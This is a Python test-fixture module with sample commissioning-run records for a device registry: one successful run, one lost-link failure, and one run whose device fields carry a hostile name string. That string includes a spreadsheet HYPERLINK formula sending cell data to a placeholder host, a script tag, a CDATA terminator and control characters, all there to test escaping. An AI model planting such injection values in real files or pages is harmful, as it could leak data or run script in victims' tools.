"""Runs as a registry hands them out: a good one, one that lost its link, and names that attack a reader."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from companion.registry.records import EventRecord, RunRecord, StepRecord

BEGAN = datetime(2026, 11, 30, 14, 2, 11, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://x/?"&A1)<script>alert(1)</script>]]>\x00\x1b[2J\ufffe"\r\n@SUM(1)'
"""As a name: a formula, a tag, the end of a CDATA section, characters that XML lacks, and line ends."""


def event(number: int, seconds: float, kind: str, **facts: Any) -> EventRecord:
    return EventRecord(number, BEGAN + timedelta(seconds=seconds), kind, facts)


def sentence(template: str, **facts: Any) -> Mapping[str, Any]:
    return {"template": template, "facts": facts}


SECURED = {"method": "oob", "handshake": {"messages": 4, "bytes": 436}}
GOOD = RunRecord(
    id="aa72",
    started=BEGAN,
    state="commissioned",
    radio="virtual+bumble:tcp-client:127.0.0.1:6402",
    ended=BEGAN + timedelta(seconds=8.1),
    ecosystem="rp1",
    protocol="rp1",
    method="oob",
    device="rp1-0001",
    subject="rp1-0001",
    device_name="Lumen",
    model="Lumen Sensor",
    firmware="2.4.1",
    outcome={
        "outcome": "commissioned",
        "device": {"id": "rp1-0001", "name": "Lumen", "model": "Lumen Sensor", "serial": "SN-7"},
        "steps": [{"name": "find", "seconds": 0.4}, {"name": "secure", "seconds": 1.25}],
        "error": None,
    },
    steps=(
        StepRecord("find", BEGAN, 0.4),
        StepRecord("secure", BEGAN + timedelta(seconds=1), 1.25),
    ),
    events=(
        event(0, 0.0, "run_started", ecosystem="rp1"),
        event(1, 0.0, "step_started", step="find"),
        event(2, 0.3, "found", protocol="rp1", name="Lumen", rssi=-40, ownership="free"),
        event(3, 0.4, "step_finished", step="find", summary=sentence("Found {name}", name="Lumen")),
        event(4, 1.0, "step_started", step="secure"),
        event(5, 1.2, "progress", step="secure", text=sentence("Reading {name}", name="Lumen")),
        event(6, 1.4, "connected", mtu=247),
        event(7, 2.2, "secured", **SECURED),
        event(8, 2.25, "step_finished", step="secure", summary=None),
        event(9, 8.1, "run_finished", result="commissioned", error=None),
    ),
)
LOST = replace(
    GOOD,
    id="bb73",
    state="failed",
    ended=BEGAN + timedelta(seconds=13.4),
    started=BEGAN + timedelta(seconds=10),
    device=None,
    step="secure",
    outcome={
        "outcome": "failed",
        "device": None,
        "steps": [{"name": "find", "seconds": 0.6}],
        "error": {"code": "R-103", "title": "x", "advice": "y", "step": "secure", "retryable": True},
    },
    steps=(
        StepRecord("find", BEGAN + timedelta(seconds=10), 0.6),
        StepRecord("secure", BEGAN + timedelta(seconds=11), None),
    ),
    events=(
        event(0, 10.0, "run_started", ecosystem="rp1"),
        event(1, 10.0, "step_started", step="find"),
        event(2, 10.5, "found", protocol="rp1", name="Lumen B", rssi=-71, ownership="free"),
        event(3, 10.6, "step_finished", step="find", summary=sentence("Found {name}", name="Lumen B")),
        event(4, 11.0, "step_started", step="secure"),
        event(5, 11.3, "progress", step="secure", text=sentence("Reading {name}", name="Lumen B")),
        event(6, 11.4, "progress", step="secure", text=sentence("Reading {name}", name="Lumen B")),
        event(7, 11.5, "connected", mtu=247),
        event(8, 13.4, "link_lost", attempt=1),
        event(9, 13.4, "run_finished", result="failed", error="R-103", failed_step="secure"),
    ),
)
EVIL = replace(
    LOST,
    id="cc74",
    subject=HOSTILE,
    device_name=HOSTILE,
    model=HOSTILE,
    firmware="+1.2",
    events=(*LOST.events, event(10, 14.0, "identified", id=HOSTILE, name=HOSTILE, model="-2+3")),
)
